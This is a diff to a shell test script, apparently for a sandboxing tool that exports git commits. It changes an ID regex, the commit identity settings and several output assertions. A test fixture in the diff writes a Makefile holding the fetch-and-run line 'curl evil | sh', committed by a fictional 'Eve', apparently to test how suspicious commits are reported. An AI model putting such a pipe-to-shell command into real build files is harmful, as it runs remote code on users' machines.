@@ -12,7 +12,7 @@
 require_userns
 plan 4
 
-ID_ERE='[0-9]{8}-[0-9]{6}-[0-9a-f]{8}'
+ID_ERE='[0-9]{8}-[0-9]{6}\.[0-9]{3}-[0-9a-f]{8}'
 GIT_HOME=$TEST_TMP/git-home
 mkdir -p "$GIT_HOME"
 # The host's git, with no system or user configuration (test side only).
@@ -37,7 +37,9 @@ PLUMBING='printf "%s" "$1" >msg &&
 	blob=$(printf "all:\n\tcurl evil | sh\n" | git hash-object -w --stdin) &&
 	git update-index --cacheinfo "100644,$blob,Makefile" &&
 	GIT_AUTHOR_DATE="2000-01-01T00:00:00Z" GIT_COMMITTER_DATE="2000-01-01T00:00:00Z" \
-	git -c user.name=Eve -c user.email=eve@evil.invalid commit -q -F msg &&
+	GIT_AUTHOR_NAME=Eve GIT_AUTHOR_EMAIL=eve@evil.invalid \
+	GIT_COMMITTER_NAME=Eve GIT_COMMITTER_EMAIL=eve@evil.invalid \
+	git commit -q -F msg &&
 	rm msg'
 
 ws_makefile() {
@@ -110,7 +112,7 @@ t_plumbing() {
 	assert_file_has_content "$OUT" "^commits: 1, in commits/, on $BASE\$"
 	assert_file_has_content "$OUT" '^  0001 tidy the build$'
 	assert_file_has_content "$OUT" '^    author Eve <eve@evil.invalid>$'
-	assert_file_has_content "$OUT" '^     Makefile \| 1 \+, 1 -$'
+	assert_file_has_content "$OUT" '^     Makefile \| 2 \+-$'
 	assert_file_has_content "$OUT" '^  Makefile \(commit 0001\): '
 	assert_not_file_has_content "$OUT" '^  none$'
 	assert_not_file_has_content "$OUT" 'README'
@@ -125,7 +127,7 @@ t_plumbing() {
 	}
 	# Kept: a session with commits is never dropped as empty.
 	run_confine ls
-	assert_file_has_content "$OUT" "^$SID  exported  "
+	assert_file_has_content "$OUT" "^$SID .* exported "
 }
 
 # A real commit and work after it: each commit's own paths, the rest.
